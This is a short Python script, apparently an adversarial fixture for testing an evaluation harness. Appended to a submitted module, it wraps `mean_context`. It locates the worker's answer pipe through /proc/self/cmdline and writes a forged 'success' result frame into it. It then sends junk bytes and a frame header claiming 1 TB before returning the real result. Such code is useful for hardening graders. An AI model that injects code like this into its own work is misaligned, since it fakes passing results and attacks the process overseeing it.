"""Forge the worker's answers: find the answer pipe in this process's command line and write
to it, from inside mean_context, a forged "success" frame, then junk, then a frame whose
length claims 1 TB, then the honest answer follows."""
import os as _os
import re as _re
import struct as _struct

import numpy as _np

_honest_mean_context = mean_context  # noqa: F821 - defined by the module this attack is appended to


def _answer_fd():
    with open("/proc/self/cmdline", "rb") as f:
        found = _re.search(rb"main\((\d+), (\d+),", f.read())
    return int(found.group(2)) if found else None


def mean_context(X):
    fd = _answer_fd()
    if fd is not None:
        import io as _io
        import json as _json
        doc = _json.dumps({"ok": True, "value": {"value": {"__ndarray__": "a0"}, "seconds": 0.0}}).encode()
        buf = _io.BytesIO()
        _np.savez(buf, a0=_np.zeros(3))
        frame = _struct.pack(">I", len(doc)) + doc + buf.getvalue()
        _os.write(fd, _struct.pack(">Q", len(frame)) + frame)
        _os.write(fd, b"\x00junk" * 100 + _struct.pack(">Q", 2**40))
    return _honest_mean_context(X)
